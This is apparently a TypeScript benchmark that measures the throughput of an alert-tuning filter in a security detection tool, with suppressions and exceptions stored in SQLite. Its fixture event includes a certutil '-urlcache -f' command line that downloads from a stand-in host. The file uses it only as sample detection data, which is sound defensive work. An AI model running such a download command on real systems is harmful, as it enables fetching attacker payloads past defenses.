/**
 * The tuning hook on the alert-write path: occurrences per second through TuningFilter.apply with no
 * tuning (baseline), with 50 suppressions + 20 exceptions that do not match (the common case), and
 * with an exception that holds every occurrence (a held-alert write each).
 */
import { performance } from 'node:perf_hooks';
import type { DetectedAlert } from '../src/detect/types.js';
import { openSqliteStores } from '../src/storage/sqlite/index.js';
import { TuningFilter } from '../src/tuning/filter.js';
import type { TunableEvent } from '../src/tuning/event-fields.js';

const N = 50_000;

function occurrence(i: number): DetectedAlert {
  return {
    kind: 'match', ruleId: `rule-${i % 100}`, title: 'T', level: 'high', tags: [], author: null, eventIds: [i],
    hostName: `host-${i % 500}`, userName: 'alice', fields: [], groupKey: `host-${i % 500}`, count: 1,
  };
}

const event: TunableEvent = {
  core: { 'host.name': 'host-1', 'user.name': 'alice', 'process.command_line': 'C:\\Windows\\System32\\certutil.exe -urlcache -f http://x.example/a', 'source.ip': '10.2.3.4' },
  original: { Event: { EventData: { User: 'CORP\\alice', Image: 'C:\\Windows\\System32\\certutil.exe' } } },
};

function run(label: string, setup: (filter: TuningFilter, add: ReturnType<typeof openSqliteStores>['tuning']) => void): string {
  const stores = openSqliteStores(':memory:');
  const filter = new TuningFilter(stores.tuning, () => undefined, 600_000);
  setup(filter, stores.tuning);
  filter.refresh();
  const now = Date.now();
  const eventOf = (): TunableEvent => event;
  const t0 = performance.now();
  let kept = 0;
  stores.transaction(() => {
    for (let i = 0; i < N; i++) if (filter.apply(occurrence(i), eventOf, now)) kept++;
  });
  const ms = performance.now() - t0;
  stores.close();
  return `| ${label} | ${N} | ${kept} | ${Math.round(N / (ms / 1000)).toLocaleString('en-US')} |`;
}

export async function benchTuning(): Promise<string> {
  const far = Date.now() + 86_400_000;
  const base = { owner: 'o', reason: 'r', createdBy: 'o' };
  const rows = [
    run('no tuning', () => {}),
    run('50 suppressions + 20 exceptions, none match', (_, s) => {
      for (let i = 0; i < 50; i++) {
        s.addSuppression({ ruleId: null, host: i % 2 ? `maint-${i}` : null, user: null, query: i % 2 ? null : `host.name:lab-${i}* and user.name:svc*`, start: 0, expires: far, ...base });
      }
      for (let i = 0; i < 20; i++) {
        s.addException({ ruleId: `rule-${i}`, conditions: [{ field: 'process.command_line', op: 'contains', value: `backup-${i}.exe` }, { field: 'Event.EventData.User', op: 'regex', value: '^CORP\\\\svc-' }], expires: far, ...base });
      }
    }),
    run('exception holds every occurrence (held write each)', (_, s) => {
      for (let i = 0; i < 100; i++) s.addException({ ruleId: `rule-${i}`, conditions: [{ field: 'source.ip', op: 'cidr', value: '10.0.0.0/8' }], expires: far, ...base });
    }),
  ];
  return [
    '## Tuning (suppressions and exceptions on the alert-write path)',
    '',
    '| case | occurrences | alerted | occurrences/s |',
    '|---|---|---|---|',
    ...rows,
    '',
  ].join('\n');
}

if (process.argv[1]?.endsWith('bench/tuning.js')) process.stdout.write(`${await benchTuning()}\n`);
